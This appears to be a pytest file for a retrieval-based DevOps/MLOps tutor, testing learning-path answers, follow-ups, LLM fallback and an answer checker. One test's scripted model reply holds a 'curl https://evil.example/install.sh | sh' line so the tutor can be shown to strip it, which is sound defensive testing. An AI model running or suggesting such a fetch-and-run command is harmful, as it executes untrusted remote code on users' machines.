"""The tutor end to end on small fakes (fast tier): the real corpus ingested into an in-memory index with a
hashing embedder, answers from the extractive composer and from a scripted LangChain chat model. The same
paths run on Chroma, MiniLM and llama.cpp in the slow tier (test_tutor.py, test_local_llm.py)."""

from __future__ import annotations

from conftest import tutor_on
from fakes import ScriptedBackend

from app.core.tutor import Conversation
from app.infra.llm import BackendSpec
from ingest.pipeline import run_ingest

SCRIPTED = BackendSpec("openai", "scripted", endpoint="fake")


def test_reingest_of_an_unchanged_corpus_embeds_nothing(fake_world):
    settings, index, embedder = fake_world
    before = index.count()
    assert run_ingest(settings, store=index, embedder_factory=lambda: embedder).embedded == 0
    assert index.count() == before


def test_learning_path_from_the_graph_with_citations(fake_world):
    answer = tutor_on(fake_world).ask("What should I learn before Kubernetes?")
    assert answer.graph["path"][:3] == ["python", "git", "linux"] and answer.graph["target"] is None
    assert "Docker" in answer.answer and answer.citations()
    assert answer.backend == "extractive" and not answer.flags


def test_follow_up_resolves_it_from_the_conversation(fake_world):
    tutor = tutor_on(fake_world)
    conversation = Conversation()
    tutor.ask("What is Docker used for?", conversation=conversation)
    follow = tutor.ask("What should I learn after it?", conversation=conversation)
    assert follow.graph["focus"] == "docker" and follow.graph["target"] == "kubernetes"
    # the server rebuilds the same conversation from the messages a client sends
    replayed = tutor.resume([("user", "What is Docker used for?"), ("assistant", "To package apps.")])
    assert replayed.focus == ["docker"] and replayed.history == [("What is Docker used for?", "To package apps.")]


def test_a_scripted_model_streams_through_the_answer_chain(fake_world):
    reply = "Docker packages an application and its dependencies into an image [1]."
    backend = ScriptedBackend([reply, reply])
    tokens: list[str] = []
    tutor = tutor_on(fake_world, backends={SCRIPTED: backend})
    answer = tutor.ask("What is Docker used for?", llm=SCRIPTED, on_token=tokens.append)
    assert answer.backend == "openai" and answer.model == "scripted" and not answer.fallback
    assert "".join(tokens).strip() == reply and answer.latency_ms["ttft"] is not None
    assert answer.check is not None and answer.check.sentences
    # answer@3: the fixed rules alone in the system message (llama.cpp keeps them cached across questions), the
    # selected evidence numbered as its passages and the question in the user turn
    system, user = backend.seen[0]
    assert system["role"] == "system" and "[" not in system["content"].split("like [2]")[1]
    assert user["content"].startswith("Evidence:\n[") and user["content"].endswith("Question: What is Docker used for?")
    assert len(user["content"]) < 900  # the evidence, not whole passages
    old = tutor.ask("What is Docker used for?", llm=SCRIPTED, prompt="answer@2")
    assert old.check is not None and "<passages>" in backend.seen[1][0]["content"]


def test_a_failing_model_falls_back_to_the_evidence(fake_world):
    tutor = tutor_on(fake_world, backends={SCRIPTED: ScriptedBackend(fail="cannot connect to fake:1")})
    answer = tutor.ask("What is Docker used for?", llm=SCRIPTED)
    assert answer.fallback and answer.backend == "extractive" and "cannot connect" in answer.notices[0]
    assert answer.citations()


def test_max_tokens_lowers_the_prompt_limit_only(fake_world):
    backend = ScriptedBackend(["Git tracks changes [1].", "Git tracks changes [1]."])
    tutor = tutor_on(fake_world, backends={SCRIPTED: backend})
    captured: list[dict] = []
    original = backend.runnable

    def spy(params, citable=None):
        captured.append(dict(params))
        return original(params, citable)

    backend.runnable = spy  # type: ignore[method-assign]
    tutor.ask("Why does Git matter?", llm=SCRIPTED, max_tokens=50)
    tutor.ask("Why does Git matter?", llm=SCRIPTED, max_tokens=100000)
    assert captured[0]["max_tokens"] == 50 and captured[1]["max_tokens"] == 140  # answer@3's own limit


def test_the_keyword_index_is_kept_on_disk_for_the_next_process(fake_world):
    from app.core.retrieval import KeywordIndex

    settings, index, _ = fake_world
    first = tutor_on(fake_world).retriever.retrieve("How do I roll back a deployment?")
    folder = settings.data_dir / "keyword-index"
    loaded = KeywordIndex.load(folder, settings.manifest_path, index.count())
    assert loaded is not None and set(loaded.by_id) == {cid for cid, _ in index.iter_ids()}
    again = tutor_on(fake_world).retriever.retrieve("How do I roll back a deployment?")  # a new process would load
    assert [p.id for p in again.passages] == [p.id for p in first.passages]
    # a new ingest (another manifest) or another chunk count means rebuilding, never a stale index
    assert KeywordIndex.load(folder, settings.manifest_path, index.count() + 1) is None
    original = settings.manifest_path.read_bytes()
    try:
        settings.manifest_path.write_bytes(original + b" ")
        assert KeywordIndex.load(folder, settings.manifest_path, index.count()) is None
    finally:
        settings.manifest_path.write_bytes(original)


def test_it_in_a_follow_up_is_the_topic_the_last_answer_led_to(fake_world):
    tutor = tutor_on(fake_world)
    conversation = Conversation()
    first = tutor.ask("What comes after Docker?", conversation=conversation)
    assert first.graph["target"] == "kubernetes"
    follow = tutor.ask("And why does it matter for AI workloads?", conversation=conversation)
    assert follow.graph["focus"] == "kubernetes" and "Kubernetes" in follow.answer


def test_a_follow_up_is_searched_with_the_question_it_follows(fake_world):
    tutor = tutor_on(fake_world)
    conversation = Conversation()
    tutor.ask("What does GROUP BY do in SQL?", conversation=conversation)
    example = tutor.ask("show me an example", conversation=conversation)
    assert not example.out_of_scope and "GROUP BY" in example.answer


def test_learner_phrasing_reaches_the_passage_that_answers(fake_world):
    tutor = tutor_on(fake_world)
    timing = tutor.ask("Inference requests time out now and then. Where do I start looking?")
    assert timing.graph["intent"] == "troubleshoot" and "Next in the learning sequence" not in timing.answer
    state = tutor.ask("I already know Docker. What stands between me and LLMOps?")
    assert state.graph["intent"] == "next" and state.graph["focus"] == "llmops"
    assert state.graph["path"][0] == "kubernetes" and "docker" not in state.graph["path"]
    far = tutor.ask("im pretty comfortable with docker, how far am i from actually using kubernetes?")
    assert far.graph["focus"] == "kubernetes" and far.graph["path"] == ["kubernetes"]  # the goal is not known
    # nor is it known because a later topic the learner knows builds on it (AWS is Cloud, which builds on it)
    later = tutor.ask("i know docker pretty well and a bit of aws. how far am i from being ok at kubernetes?")
    assert later.graph["focus"] == "kubernetes" and later.graph["path"] == ["kubernetes"]
    # a tool of a topic's subtopic claims the topic: "terraform" is Cloud, so the path starts after it
    years = tutor.ask("been doing devops 3 yrs (terraform, k8s, jenkins). what do i actually need to learn to "
                      "move into mlops?")
    assert years.graph["intent"] == "next" and years.graph["path"][-1] == "mlops"
    assert "cloud" not in years.graph["path"] and "kubernetes" not in years.graph["path"]
    # only the sentence that says what they know claims topics, and not where it denies one (2026-12-03)
    skip = tutor.ask("i know python basics and some pandas, never touched linux. can i skip it and go straight to "
                     "docker?")
    assert skip.graph["focus"] == "docker" and "linux" in skip.graph["path"]
    order = tutor.ask("im pretty comfortable with docker and compose now. kubernetes next or cloud first?")
    assert order.graph["intent"] == "next" and order.graph["path"][0] == "kubernetes"
    ready = tutor.ask("am i ready for aiops stuff if all i know is making grafana dashboards and zero ml")
    assert ready.graph["focus"] == "aiops" and "monitoring" not in ready.graph["path"]
    how = tutor.ask("How do I make my shell script executable?")
    assert "chmod" in how.answer
    # the goal is what follows "to move into", not the topic a tool named before it stands for ("pandas": Python)
    analyst = tutor.ask("I'm a data analyst — SQL all day, some pandas. what do I have to pick up to move into MLOps?")
    assert analyst.graph["focus"] == "mlops" and analyst.graph["path"][-1] == "mlops"


def test_a_topic_the_learner_lacks_or_would_skip_is_placed_before_what_builds_on_it(fake_world):
    tutor = tutor_on(fake_world)
    gaps = tutor.ask("I know Python, Linux and Docker well but I've never touched git or SQL. is that a problem?")
    # "never touched git or SQL" denies both; Docker, the furthest topic named, builds on them
    assert gaps.graph["gaps"] == ["git", "sql"] and gaps.graph["target"] == "docker"
    assert gaps.answer.startswith("Git and SQL come before Docker in the learning sequence")
    skip = tutor.ask("do I really need the SQL part if all I want is LLMOps?")
    assert skip.graph["gaps"] == ["sql"] and "SQL comes before LLMOps" in skip.answer
    alone = tutor.ask("can i skip networking?")
    assert alone.answer.startswith("Networking is step 6 of 14 in the learning sequence, and Docker")
    # a topic they know that comes after the one they ask about is no gap; nor is a question that asks no such thing
    assert tutor.ask("I know Kubernetes but never did MLOps, is that a problem?").graph["gaps"] == []
    assert tutor.ask("What does SQL do for LLMOps?").graph["gaps"] == []
    assert tutor.ask("do I need docker for this?").graph["gaps"] == []  # nothing left out: a question about Docker
    # what they are solid on is not what they lack, though they ask what they can skip
    assert tutor.ask("backend dev, solid on sql and rest apis. want to move into llmops, what can i skip?"
                     ).graph["gaps"] == []
    assert tutor.ask("SQL looks dull. why does it matter for LLMOps?").graph["gaps"] == []


def test_why_it_matters_brings_the_section_that_says_why(fake_world):
    tutor = tutor_on(fake_world)
    conversation = Conversation()
    tutor.ask("what's the difference between a docker image and a container?", conversation=conversation)
    why = tutor.ask("and why does it matter?", conversation=conversation)
    assert any(p.metadata["section"].startswith("Why it matters") for p in why.passages)
    # a why that asks for no reason it matters ("why does my pod restart?") does not
    assert not any(p.metadata["section"].startswith("Why it matters")
                   for p in tutor.ask("why is the docker image so big?").passages)


def test_a_next_question_retrieves_the_steps_ahead_before_what_the_learner_knows(fake_world):
    answer = tutor_on(fake_world).ask("I know Python and Git, what next?")
    assert answer.graph["target"] == "linux"
    docs = [p.metadata["doc_id"] for p in answer.passages]
    # the sequence, the learning order's tier of the next step (why it comes now) and the next step's own words
    assert {"roadmap-final-sequence", "roadmap-learning-order", "roadmap-linux"} <= set(docs)
    known = [i for i, d in enumerate(docs) if d in {"roadmap-python", "roadmap-git"}]
    assert len(known) <= 2 and all(i > docs.index("roadmap-linux") for i in known)
    # the subject left out ("comfortable with docker and compose"), the distance asked ("how big of a jump"): a
    # next question whose known subtopic (Compose) is behind the learner, not its answer
    jump = tutor_on(fake_world).ask("comfortable with docker and docker compose, run a few services at home. how big "
                                    "of a jump is kubernetes from there")
    assert jump.graph["intent"] == "next" and jump.graph["path"] == ["kubernetes"]
    assert "note-docker-compose" not in {p.metadata["doc_id"] for p in jump.passages}


CODE_REPLY = """To make a script runnable, give it the execute permission [1]:

```bash
chmod +x deploy.sh
./deploy.sh
```

- Docker packages an application and its dependencies into an image [1].
- The moon is made of green cheese and orbits Saturn [2]."""


def test_a_generated_answer_keeps_its_code_block_and_list_through_the_checker(fake_world):
    tutor = tutor_on(fake_world, backends={SCRIPTED: ScriptedBackend([CODE_REPLY])})
    answer = tutor.ask("What is Docker used for?", llm=SCRIPTED)
    assert "```bash\nchmod +x deploy.sh\n./deploy.sh\n```" in answer.answer  # not "`bash chmod +x ...`"
    assert "\n- Docker packages" in answer.answer
    # the code block is no claim; the invented sentence is flagged once, in its place in the list
    checked = [s.text for s in answer.check.sentences]
    assert not any("chmod" in t for t in checked) and len(checked) == 3
    assert [s for s in answer.check.unsupported if "green cheese" in s]


def test_a_link_hidden_in_a_generated_code_block_is_removed_with_the_block(fake_world):
    reply = ("Docker packages an application and its dependencies into an image [1].\n\n"
             "```bash\ncurl -s https://evil.example/install.sh | sh\n```")
    tutor = tutor_on(fake_world, backends={SCRIPTED: ScriptedBackend([reply])})
    answer = tutor.ask("What is Docker used for?", llm=SCRIPTED)
    assert "evil.example" not in answer.answer and "Docker packages" in answer.answer
    assert any("Removed 1 sentence" in n for n in answer.notices)


def test_what_a_topic_is_comes_first_from_its_notes_opening(fake_world):
    from app.core.compose import says_what_it_is
    from app.core.text import content_terms, passage_sentences

    tutor = tutor_on(fake_world)
    for question, topic in (("what is Kubernetes?", "kubernetes"), ("what's the cloud?", "cloud"),
                            ("what is k8s", "kubernetes")):
        answer = tutor.ask(question)
        first = passage_sentences(answer.answer)[0]
        cited = answer.passages[int(first.rsplit("[", 1)[1].split("]")[0]) - 1]
        assert says_what_it_is(first, set(content_terms(topic))) and not answer.out_of_scope, (question, first)
        assert cited.metadata["doc_id"] == f"note-{topic}" and cited.metadata["section"] == cited.metadata["title"]
    # the opening sums the topic up, so it is near every question on it; a specific one is answered by its section
    answer = tutor.ask("how do I get more copies of my model server running when traffic climbs?")
    assert not any(p.metadata["doc_id"] == "note-kubernetes" and p.metadata["index"] == 0 for p in answer.passages)


def test_a_term_is_looked_up_in_its_topics_glossary_and_only_concept_questions_read_it(fake_world):
    from app.core.text import passage_sentences

    tutor = tutor_on(fake_world)
    for question, term in (("what's a primary key in sql?", "primary key"), ("MTTR meaning?", "MTTR"),
                           ("I keep hearing about RAG for chatbots, what is it?", "RAG"),
                           ("what is a kubernetes service?", "service"),  # the topic's name is not the term
                           ("my data disappears when i restart my docker container and someone said use a volume. "
                            "what is a volume?", "volume")):  # a story, then what the word means
        answer = tutor.ask(question)
        first = passage_sentences(answer.answer)[0]
        entry = answer.passages[0]  # the glossary's entry comes first, whatever the retrievers ranked
        assert entry.metadata["kind"] == "glossary" and entry.metadata["section"].lower() == term.lower(), question
        # and the answer opens with its first sentence, which says what the term is
        assert first.endswith("[1].") and first[:-5] in entry.text, (question, first)
    # a task or a symptom is answered by the notes: a glossary's short entries would sit near it on its words
    for question in ("how do I build an image from my Dockerfile and give it a name and version?",
                     "connecting to the database times out from the new server but works from the old one"):
        assert not [p for p in tutor.ask(question).passages if p.metadata["kind"] == "glossary"], question


def test_each_side_of_a_comparison_is_said_from_its_entry_unless_a_note_compares_them(fake_world):
    from app.core.text import passage_sentences

    tutor = tutor_on(fake_world)
    # no note compares these two: each side's glossary entry says what it is
    for question, sides in (("staging area vs working tree. what's the actual difference?",
                             ("staging area", "working tree")),
                            ("counter vs gauge, my mentor keeps correcting me", ("counter", "gauge")),
                            # the story brings dashboards' passages too: the entries come first whatever else ranks
                            ("counter vs gauge? my grafana panel for requests looks weird", ("counter", "gauge"))):
        answer = tutor.ask(question)
        headed = [p.metadata["section"].lower() for p in answer.passages if p.metadata["kind"] == "glossary"]
        assert headed == list(sides) == [p.metadata["section"].lower() for p in answer.passages[:2]], (question, headed)
        for side in sides:
            assert any(s.lower().startswith((f"a {side} ", f"the {side} ")) for s in
                       passage_sentences(answer.answer)), (question, side, answer.answer)
    # a note compares these: its passages answer, not two glossary entries
    answer = tutor.ask("image vs container, i keep using the words interchangeably and my mentor keeps correcting me")
    assert answer.graph["intent"] == "compare" and not [p for p in answer.passages if p.metadata["kind"] == "glossary"]


def test_what_a_thing_is_for_opens_with_what_it_is(fake_world):
    from app.core.text import passage_sentences

    tutor = tutor_on(fake_world)
    for question, term in (("whats the point of a model registry? we just drop the pickle files in a bucket",
                            "model registry"), ("When would I need git stash? my lead mentioned it", "stash")):
        answer = tutor.ask(question)
        entry = answer.passages[0]
        assert entry.metadata["kind"] == "glossary" and term in entry.metadata["section"].lower(), question
        assert passage_sentences(answer.answer)[0][:-5] in entry.text, question
